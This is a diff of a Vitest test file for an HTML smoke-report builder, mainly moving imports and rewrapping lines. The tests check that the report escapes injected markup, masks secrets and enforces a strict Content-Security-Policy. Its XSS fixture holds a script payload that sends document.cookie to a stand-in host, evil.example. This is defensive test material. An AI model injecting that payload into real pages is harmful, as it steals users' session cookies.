@@ -4,9 +4,9 @@
  */
 import { describe, expect, it } from 'vitest';
 import { htmlReport, type HtmlRun } from '../../src/core/smoke/html.js';
-import type { StepResult } from '../../src/core/smoke/runner.js';
+import type { StepResult } from '../../src/core/smoke/results.js';
 import { parseMermaid, type SequenceDiagram } from '../../src/core/diagram/sequence.js';
-import { parseXml, type XmlElement } from './smoke-xml.js';
+import { parseXml, type XmlElement } from '../fixtures/xml.js';
 
 const XSS = `<img src=x onerror=alert(1)><script>fetch('https://evil.example/'+document.cookie)</script>"'\``;
 const SECRET = 'hunter2-super-secret-value';
@@ -58,7 +58,9 @@ const runs: HtmlRun[] = [
       {
         result: step({ id: 'ok-step', argv: ['invoke', 'agent', '--bearer-token', SECRET, '--json'], secretArgs: [3] }),
         diagram,
-        trace: `→ POST http://127.0.0.1/runtimes/x/invocations\n    authorization: Bearer eyJhbG…[812 chars]\n← 200 (5 ms)`,
+        trace:
+          `→ POST http://127.0.0.1/runtimes/x/invocations\n    authorization: Bearer eyJhbG…[812 ` +
+          `chars]\n← 200 (5 ms)`,
       },
       {
         result: step({
@@ -96,14 +98,16 @@ describe('smoke --html report', () => {
   it('fetches nothing: no script, no external reference, a CSP that forbids everything but inline style', () => {
     expect(html).toMatch(/^<!doctype html>/);
     expect(html).toContain(
-      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; base-uri 'none'; form-action 'none'">`,
+      `<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; ` +
+        `base-uri 'none'; form-action 'none'">`,
     );
     expect(html).not.toMatch(/@import|url\(/i);
     // Every tag of the page is one the builder writes; none has src, on…, or an href leaving the page.
     const allowed = new Set(
-      'html head meta title style body main header h1 h2 h3 p span table thead tbody tr th td a section pre ul li strong details summary figure figcaption svg rect line text path polygon polyline'.split(
-        ' ',
-      ),
+      (
+        'html head meta title style body main header h1 h2 h3 p span table thead tbody tr th td a section pre ul ' +
+        'li strong details summary figure figcaption svg rect line text path polygon polyline'
+      ).split(' '),
     );
     const tags = [...html.matchAll(/<([a-zA-Z][\w-]*)((?:\s[^>]*)?)>/g)];
     expect(tags.length).toBeGreaterThan(50);
